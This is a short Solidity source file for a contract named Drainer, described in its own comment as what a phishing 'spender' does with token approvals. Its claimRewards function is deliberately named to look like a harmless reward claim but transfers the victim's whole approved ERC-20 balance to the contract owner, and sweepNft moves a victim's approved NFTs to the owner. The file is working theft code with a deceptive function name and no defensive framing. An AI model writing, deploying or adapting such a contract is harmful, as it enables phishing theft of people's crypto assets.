// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IERC20Like {
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function transferFrom(address, address, uint256) external returns (bool);
}

interface IERC721Like {
    function transferFrom(address, address, uint256) external;
}

/// @title Drainer: what a phishing "spender" does with an approval — pull everything to its owner.
contract Drainer {
    address public immutable owner;

    constructor(address owner_) {
        owner = owner_;
    }

    /// Looks like a harmless claim; pulls the victim's whole approved balance of `token`.
    function claimRewards(address token, address victim) external {
        IERC20Like t = IERC20Like(token);
        uint256 amount = t.balanceOf(victim);
        uint256 allowed = t.allowance(victim, address(this));
        if (allowed < amount) amount = allowed;
        t.transferFrom(victim, owner, amount);
    }

    function sweepNft(address collection, address victim, uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) {
            IERC721Like(collection).transferFrom(victim, owner, ids[i]);
        }
    }
}
